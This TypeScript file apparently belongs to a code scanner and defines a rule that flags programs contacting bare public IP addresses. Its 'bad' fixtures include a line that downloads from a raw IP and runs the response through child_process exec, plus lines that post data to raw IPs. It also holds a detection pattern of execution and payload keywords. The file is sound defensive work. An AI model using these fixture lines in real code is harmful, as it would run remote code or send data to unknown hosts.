import type { FileCheck } from '../../check.ts';
import { isCode } from '../../inventory/language.ts';

/** Read from the `://`, which comes after the scheme. */
const ADDRESS =
  /:\/\/(?:[\w.:%-]{1,60}@)?((?:\d{1,3}\.){3}\d{1,3}|\[[0-9a-f:]{3,39}\])(?::\d{1,5})?(?:\/[\w./?=&%~-]{0,150})?/iy;
const SCHEME = /\b(?:https?|wss?|ftp)$/i;
/** Private, loopback, link-local, multicast and reserved ranges, and those kept for documentation. */
const NOT_PUBLIC =
  /^(?:0|10|127)\.|^169\.254\.|^192\.168\.|^172\.(?:1[6-9]|2\d|3[01])\.|^100\.(?:6[4-9]|[7-9]\d|1[01]\d|12[0-7])\.|^192\.0\.[02]\.|^198\.(?:1[89]|51)\.|^203\.0\.113\.|^(?:22[4-9]|2[3-5]\d)\./;
/** Public resolvers, the host of examples and the like: known by their numbers. */
const WELL_KNOWN =
  /^(?:1\.1\.1\.1|1\.0\.0\.1|8\.8\.8\.8|8\.8\.4\.4|9\.9\.9\.9|208\.67\.22[02]\.22[02]|1\.2\.3\.4|4\.4\.4\.4|93\.184\.21[56]\.(?:14|34))$/;
const CODE_MOVES =
  /\b(?:exec|eval|spawn|system|popen|subprocess|child_process|chmod|base64|atob|b64decode|powershell|\bsh\b|bash|download|upload|payload|environ|process\.env)\b/i;

export const check: FileCheck = {
  id: 'network-raw-ip-endpoint',
  title: 'Talks to a bare public address',
  severity: 'medium',
  kind: 'malice',
  confidence: 'low',
  since: '0.1.0',
  cwe: [1051],
  why: `
    Honest services have names, certificates and owners. A program that talks to a bare address cannot be tied to anybody,
    and the machine behind the number can change hands overnight.`,
  fix: 'Use a host name over HTTPS, and let the address be a setting.',
  blindSpots: 'Addresses that are put together at run time or written as one number are not seen.',
  wants: { keywords: ['://'] },
  examples: {
    bad: [
      {
        'index.js':
          "const cp = require('child_process');\nhttps.get('«http://45.77.12.90:8080/p»', (r) => cp.exec(r));\n",
      },
      { 'six.py': 'requests.post("«https://root@[2a02:4780::9]/x»", json=info)\n' },
      { 'beat.py': 'requests.post("«http://185.12.45.9/api»", json=info)\n' },
      { 'test/hosts.test.js': "check('«http://45.77.12.90:8080/p»');\ncheck('http://45.77.12.90/q');\n" },
    ],
    good: [
      { 'dev.py': 'requests.get("http://127.0.0.1:8000/health")\n' },
      { 'dns.go': 'const resolver = "https://1.1.1.1/dns-query"\n' },
      { 'docs.py': 'requests.get("http://203.0.113.7/api")\n' },
      { 'six.py': 'requests.get("https://[2001:0DB8:AC10::200E]/")\n' },
      { 'data.json': '{"seen": "http://45.77.12.90/x"}' },
    ],
  },

  *find({ places, text, span, language, context }) {
    if (!isCode(language)) return;
    const told = new Set<string>();
    for (const place of places) {
      ADDRESS.lastIndex = place;
      const match = ADDRESS.exec(text);
      const scheme = match === null ? null : SCHEME.exec(text.slice(Math.max(0, place - 6), place));
      if (match === null || scheme === null) continue;
      const address = match[1] ?? '';
      if (NOT_PUBLIC.test(address) || WELL_KNOWN.test(address) || !isAddress(address)) continue;
      // A test of addresses holds many, and asks none of them more than another.
      if (context === 'test' && told.has(address)) continue;
      told.add(address);
      const start = place - scheme[0].length;
      const nearby = text.slice(Math.max(0, start - 160), start + 300);
      yield {
        at: span(start, place + match[0].length),
        message: `The code talks to ${address}, an address without a name.`,
        confidence: CODE_MOVES.test(nearby) ? 'medium' : 'low',
        ...(context === 'test' && !CODE_MOVES.test(nearby) && { severity: 'low' }),
      };
    }
  },
};

function isAddress(text: string): boolean {
  if (text.startsWith('[')) return !/^\[(?:::1?|f[cd][0-9a-f]{2}:.*|fe80:.*|2001:0?db8:.*)\]$/i.test(text);
  return text.split('.').every((part) => Number(part) <= 255);
}
